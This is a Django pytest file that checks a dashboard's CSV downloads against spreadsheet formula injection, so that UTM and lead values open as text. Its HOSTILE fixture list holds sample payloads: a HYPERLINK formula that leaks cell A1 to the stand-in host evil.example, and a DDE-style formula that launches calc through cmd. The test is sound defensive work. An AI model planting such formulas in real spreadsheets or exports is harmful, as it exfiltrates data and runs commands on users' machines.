"""Issue 12 I: CSV formula injection. One anonymous `GET /?utm_source==1%2B2` put `=1+2` into the per-source CSV,
and signups carried `=HYPERLINK(…)` and `@SUM(…)` unescaped. Every cell of every CSV download must open in a
spreadsheet as text, never run (OWASP "CSV Injection": a leading quote, every cell quoted)."""

import csv
import io
from datetime import UTC, datetime

import pytest
from django.contrib.auth.models import User
from django.test import Client
from django.urls import reverse
from django.utils import timezone

from funnel.dashboard import tables
from funnel.models import DailyVisit
from leads.models import Lead
from leads.spreadsheet import csv_cell

pytestmark = [pytest.mark.django_db]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
HOSTILE = ['=HYPERLINK("https://evil.example/?x="&A1,"click")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+2", "-2+3",
           "\t=1+2", "\r=1+2", 'a","=1+2']


@pytest.fixture
def boss() -> Client:
    client = Client()
    client.force_login(User.objects.create_superuser("boss", "boss@example.com", "pw"))
    return client


def _cells(response: object) -> list[str]:
    text = response.content.decode()  # type: ignore[attr-defined]
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _period() -> dict[str, str]:
    """Today, in UTC: the tests hold the clock (held_clock), so it is the day their visits and leads were dated."""
    today = timezone.now().astimezone(UTC).date().isoformat()
    return {"start": today, "end": today}


def _is_plain_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_an_anonymous_visit_cannot_put_a_formula_into_the_per_source_csv(boss: Client, held_clock: datetime) -> None:
    visitor = Client(HTTP_USER_AGENT="Mozilla/5.0 (X11; Linux x86_64)")
    assert visitor.get("/?utm_source==1%2B2&utm_campaign=@SUM(A1)").status_code == 200
    response = boss.get(reverse("admin-dashboard-csv", args=["sources"]), _period())
    cells = _cells(response)
    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS) and not _is_plain_number(cell)]
    assert "=1+2" not in cells


def test_every_csv_cell_is_escaped_and_quoted(boss: Client, held_clock: datetime) -> None:
    """Values stored before the landing page bounded them (or by any other path) are escaped on the way out."""
    now = timezone.now()
    for n, value in enumerate(HOSTILE):
        Lead.objects.create(email=f"csv{n}@example.com", utm_source=value, utm_campaign=value, created_at=now,
                            confirmed_at=now, status=Lead.Status.SUBSCRIBED)
        DailyVisit.objects.create(date=now.astimezone(UTC).date(), utm_source=value, utm_medium="cpc",
                                  utm_campaign=value, count=3)
    for table in tables.TABLE_BUILDERS:
        response = boss.get(reverse("admin-dashboard-csv", args=[table]), _period())
        assert response.status_code == 200
        cells = _cells(response)
        assert cells, table
        risky = [cell for cell in cells if cell.startswith(FORMULA_STARTS) and not _is_plain_number(cell)]
        assert risky == [], f"{table}: {risky}"
        # Every cell quoted, so no separator or line break inside a value can start a new cell: the download is
        # exactly what writing its own cells with every one quoted gives.
        text = response.content.decode()
        requoted = io.StringIO()
        csv.writer(requoted, quoting=csv.QUOTE_ALL).writerows(csv.reader(io.StringIO(text)))
        assert requoted.getvalue() == text, table
    sources = _cells(boss.get(reverse("admin-dashboard-csv", args=["sources"]), _period()))
    for value in HOSTILE:
        shown = value if not value.startswith(FORMULA_STARTS) else "'" + value
        assert shown in sources  # kept readable, only defused


def test_numbers_stay_numbers() -> None:
    """Negative changes are plain numbers a spreadsheet must be able to sum: no quote in front of them."""
    assert csv_cell("-12.50") == "-12.50" and csv_cell("-3") == "-3"
    assert csv_cell("-1+2") == "'-1+2" and csv_cell("=1") == "'=1"
